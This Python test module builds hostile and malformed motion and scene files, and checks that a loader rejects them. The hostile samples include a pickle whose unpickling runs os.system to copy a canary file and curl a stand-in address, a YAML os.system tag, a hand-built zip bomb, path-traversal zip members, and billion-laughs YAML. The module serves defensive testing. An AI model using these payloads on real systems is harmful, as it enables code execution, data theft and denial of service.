"""Motion and scene files that carry payloads, bombs and nonsense; good ones beside them, which must be taken."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from tests import motion_fixtures as made
from tests.hostile.case import Canary, Case

ONE_PERSON = {"performers": [{"motion": "good.npz"}]}


class Payload:
    """Pickles as a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        """What unpickling would run."""
        return os.system, (self.command,)


def amass(**changes: Any) -> Callable[[Path], object]:
    """An AMASS file with some arrays changed; None leaves one out."""

    def make(path: Path) -> None:
        arrays = {**made.amass(made.Dance(frames=30), rate=30.0), **changes}
        with path.open("wb") as file:
            np.savez(file, **{k: v for k, v in arrays.items() if v is not None})

    return make


def pickled(value: Any) -> Callable[[Path], object]:
    """A pickle."""
    return lambda path: path.write_bytes(pickle.dumps(value))


def scene(value: object) -> Callable[[Path], object]:
    """A scene file: text as it is, anything else as JSON."""
    text = value if isinstance(value, str) else json.dumps(value)
    return lambda path: path.write_text(text)


def poses(frames: int = 30, joints: int = 52) -> np.ndarray:
    """Axis-angle that is well."""
    return np.zeros((frames, 3 * joints))


def one(value: float) -> np.ndarray:
    """Poses with one number that is none."""
    bad = poses()
    bad[7, 5] = value
    return bad


def cases(canary: Canary) -> list[Case]:
    """Every motion and scene file of the corpus."""
    return [*_arrays(), *_containers(canary), *_pickles(canary), *_scenes(canary)]


def _arrays() -> list[Case]:
    reject = "rejected"
    return [
        Case("a motion that a scene uses", "good.npz", amass(), "unseen"),
        Case("a motion that is well", "alone.npz", amass(gender=np.array("male")), "accepted"),
        Case("objects for poses", "objects.npz", amass(poses=np.array([{}] * 30, object)), reject,
             "poses: want a plain"),
        Case("NaN in a pose", "nan.npz", amass(poses=one(np.nan)), reject, "poses: want .*finite|nan"),
        Case("infinity in a pose", "inf.npz", amass(poses=one(np.inf)), reject, "poses: want .*finite|inf"),
        Case("numbers beyond single precision", "huge.npz", amass(trans=np.full((30, 3), 1e300)), reject,
             "trans: want"),
        Case("155 numbers a frame", "shape.npz", amass(poses=np.zeros((30, 155))), reject, "poses: want"),
        Case("a joint too many", "joints.npz", amass(poses=poses(joints=60)), reject, "poses: want"),
        Case("one axis too many", "axes.npz", amass(poses=np.zeros((30, 52, 3, 1))), reject, "poses: want"),
        Case("no frames", "frames-0.npz", amass(poses=poses(0), trans=np.zeros((0, 3))), reject,
             "at least one frame, got none"),
        Case("one frame", "frames-1.npz", amass(poses=poses(1), trans=np.zeros((1, 3))), reject, "want .*got 1"),
        Case("trans of another length", "length.npz", amass(trans=np.zeros((29, 3))), reject, "trans: want"),
        Case("text for poses", "text.npz", amass(poses=np.array([["a"] * 156] * 30)), reject, "poses: want"),
        Case("complex poses", "complex.npz", amass(poses=poses().astype(complex)), reject, "poses: want"),
        Case("dates for trans", "dates.npz", amass(trans=np.zeros((30, 3), "datetime64[s]")), reject, "trans: want"),
        Case("0 frames a second", "fps-0.npz", amass(mocap_framerate=np.array(0.0)), reject, "mocap_framerate: want"),
        Case("a negative rate", "fps-neg.npz", amass(mocap_framerate=np.array(-30.0)), reject, "mocap_framerate: want"),
        Case("a rate that is no number", "fps-nan.npz", amass(mocap_framerate=np.array(np.nan)), reject,
             "framerate: want"),
        Case("a billion frames a second", "fps-1e9.npz", amass(mocap_framerate=np.array(1e9)), reject,
             "framerate: want"),
        Case("a gender not known", "gender.npz", amass(gender=np.array("robot")), reject, "gender: want"),
        Case("a million shape parameters", "betas.npz", amass(betas=np.zeros(10**6)), reject, "betas: want"),
        Case("keys of no set", "keys.npz", amass(poses=None, trans=None), "unseen"),
        Case("poses without places", "trans.npz", amass(trans=None), "unseen"),
    ]  # fmt: skip


def _bomb(path: Path) -> None:
    """2.2 GB of zeros in 2 MB: one block of deflate, again and again."""
    size = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(size)) + packer.flush(zlib.Z_FULL_FLUSH)
    _archive(path, ("poses.npy", "trans.npy", "mocap_framerate.npy"), block * 2200 + b"\x03\x00", 2200 * size)


def _lying_bomb(path: Path) -> None:
    """An array header that says a terabyte, with nothing behind it."""
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "<f8", "fortran_order": False, "shape": (10**9, 156)})
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("poses.npy", buffer.getvalue())
        archive.writestr("trans.npy", buffer.getvalue())
        archive.writestr("mocap_framerate.npy", buffer.getvalue())


def _archive(path: Path, names: tuple[str, ...], packed: bytes, size: int) -> None:
    """A zip of deflated entries that share their bytes, checksums left out."""
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(packed), size, len(names[0]), 0)
    body = b"PK\3\4" + head + names[0].encode() + packed
    index = b""
    for name in names:
        index += b"PK\1\2" + struct.pack(
            "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, 0, len(packed), size, len(name), 0, 0, 0, 0, 0, 0
        )
        index += name.encode()
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(index), len(body), 0)
    path.write_bytes(body + index + b"PK\5\6" + end)


def _climbing(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("../../escape.npy", "/tmp/escape.npy", "poses.npy", "trans.npy", "mocap_framerate.npy"):
            archive.writestr(name, b"\x93NUMPY")


def _containers(canary: Canary) -> list[Case]:
    reject = "rejected"
    return [
        Case("an npz that is none", "none.npz", lambda p: p.write_bytes(b"PK nothing like it"), reject,
             "want an npz file"),
        Case("empty", "empty.npz", lambda p: p.write_bytes(b""), reject, "want an npz file"),
        Case("cut at half", "cut.npz", lambda p: (amass()(p), os.truncate(p, p.stat().st_size // 2)), reject,
             "want an npz"),
        Case("a zip bomb", "bomb.npz", _bomb, reject, "want at most .* bytes unpacked"),
        Case("a terabyte by its header", "header.npz", _lying_bomb, reject, "want a plain array|memory"),
        Case("members that climb", "climb.npz", _climbing, reject, "poses: want a plain array"),
        Case("a link out of the folder", "link.npz", lambda p: p.symlink_to(canary.file), reject, "want an npz"),
        Case("a link to nothing", "nowhere.npz", lambda p: p.symlink_to("gone.npz"), reject,
             "cannot be read|nothing there"),
        Case("a link to a device without end", "random.npz", lambda p: p.symlink_to("/dev/urandom"), "unseen"),
    ]  # fmt: skip


def _pickles(canary: Canary) -> list[Case]:
    reject, plain = "rejected", "want numpy arrays and plain containers only"
    payload = Payload(f"cat {canary.file} > {canary.file}.stolen; curl -s {canary.address}/pickle")
    looped: list[Any] = []
    looped.append(looped)
    deep: Any = 0
    for _ in range(90):
        deep = [deep]
    array = np.zeros(3)
    return [
        Case("a pickle that runs a command", "run.pkl", pickled({**made.aistpp(), "extra": payload}), reject, plain),
        Case("the same as npy", "run.npy", lambda p: _save_npy(p, np.array({**made.aistpp(), "x": payload}, object)),
             reject, plain),
        Case("a pickle of something else", "path.pkl", pickled(Path("/etc/passwd")), reject, plain),
        Case("a pickle cut short", "cut.pkl", lambda p: p.write_bytes(pickle.dumps(made.aistpp())[:-40]), reject,
             "want a whole pickle"),
        Case("a list that holds itself", "self.pkl", pickled(looped), "unseen"),
        Case("90 lists in each other", "deep.pkl", pickled(deep), "unseen"),
        Case("poses that are lists of text", "words.pkl", pickled({**made.aistpp(), "smpl_poses": [["a"] * 72] * 9}),
             reject, "smpl_poses: want"),
        Case("poses that are a mapping", "map.pkl", pickled({**made.aistpp(), "smpl_poses": {"a": array}}), reject,
             "smpl_poses: want"),
        Case("NaN in a scale", "scale.pkl", pickled({**made.aistpp(), "smpl_scaling": np.array([np.nan])}), reject,
             "smpl_scaling: want|smpl_trans: want|finite"),
        Case("a scale of nought", "scale-0.pkl", pickled({**made.aistpp(), "smpl_scaling": np.array([0.0])}), reject,
             "smpl_scaling: want|finite"),
        Case("noise", "noise.pkl", lambda p: p.write_bytes(np.random.default_rng(0).bytes(9999)), reject,
             "want a whole"),
    ]  # fmt: skip


def _save_npy(path: Path, array: np.ndarray) -> None:
    with path.open("wb") as file:
        np.save(file, array, allow_pickle=True)


def _scenes(canary: Canary) -> list[Case]:
    reject = "rejected"
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(12)
    )
    merges = "a: &a {k: 1}\n" + "".join(
        f"m{i}: &m{i} {{<<: [{', '.join([f'*m{i - 1}' if i else '*a'] * 30)}]}}\n" for i in range(8)
    )
    named = "performers: [{motion: %s}]\n"
    return [
        Case("a scene that is well", "well.yaml", scene({"performers": [{"motion": "good.npz", "clothes_seed": 7}]}),
             "accepted"),
        Case("broken YAML", "broken.yaml", scene("performers: [{motion: a.npz\n- : }"), reject, "want YAML or JSON"),
        Case("YAML that makes Python objects", "object.yaml",
             scene(f"performers: !!python/object/apply:os.system ['touch {canary.file}.stolen']"), reject, "want YAML"),
        Case("a billion laughs", "laughs.yaml", scene(laughs + "performers: *m\n"), reject, "want|is not a field"),
        Case("a billion merges", "merges.yaml", scene(merges + "performers: []\n"), reject, "merged by <<"),
        Case("a list that holds itself", "self.yaml", scene("performers: &a [*a]\n"), reject, "performers"),
        Case("10,000 lists in each other", "deep.yaml", scene("performers: " + "[" * 10_000), reject,
             "want YAML or JSON"),
        Case("a million empty lines", "lines.json", scene("\n" * 1_000_000), "unseen"),
        Case("2 MB of text", "long.yaml", scene("performers: [] # " + "x" * (2 << 20)), reject,
             "at most 1048576 bytes"),
        Case("bytes that are no text", "latin.yaml", lambda p: p.write_bytes(b"performers: \xff\xfe"), reject, "UTF-8"),
        Case("a motion above the folder", "up.yaml", scene(named % "../in.npz"), reject,
             "inside the scene file's folder"),
        Case("a motion from the root", "root.yaml", scene(named % str(canary.file)), reject, "inside the scene file's"),
        Case("a motion at an address", "far.yaml", scene(named % f'"{canary.address}/a.npz"'), reject, "nothing there"),
        Case("a motion with a zero byte", "zero.yaml", scene(named % '"a\\0.npz"'), reject, "inside the scene file's"),
        Case("a motion that is a device", "device.yaml", lambda p: _device(p), reject, "nothing there|want a motion"),
        Case("nobody", "nobody.yaml", scene("performers: []\n"), reject, "want 1 to 32, got 0"),
        Case("10,000 performers", "crowd.json", scene({"performers": [{"motion": "good.npz"}] * 10_000}), reject,
             "want 1 to 32, got 10000"),
        Case("a field that is none", "field.yaml", scene({**ONE_PERSON, "colour": 1}), reject,
             "'colour' is not a field"),
        Case("a number beyond all bounds", "inf.yaml", scene("duration_s: .inf\n" + named % "good.npz"), reject,
             "duration_s: want a number"),
        Case("a length of nought", "nought.yaml", scene({**ONE_PERSON, "duration_s": 0}), reject, "duration_s: want"),
        Case("a start after the end", "start.yaml", scene({"performers": [{"motion": "good.npz", "start_s": 9e3}]}),
             reject,
             "start_s: want below"),
        Case("a person who is not there", "person.yaml", scene({"performers": [{"motion": "good.npz", "person": 3}]}),
             reject, "person: want below 1"),
        Case("a key twice", "twice.yaml", scene("performers: []\nperformers: []\n"), reject, "stands twice"),
        Case("notes that are no scene", "notes.json", scene({"note": "taken on a Sunday"}), "unseen"),
    ]  # fmt: skip


def _device(path: Path) -> None:
    (path.parent / "device.npz").unlink(missing_ok=True)
    (path.parent / "device.npz").symlink_to("/dev/zero")
    path.write_text("performers: [{motion: device.npz}]\n")
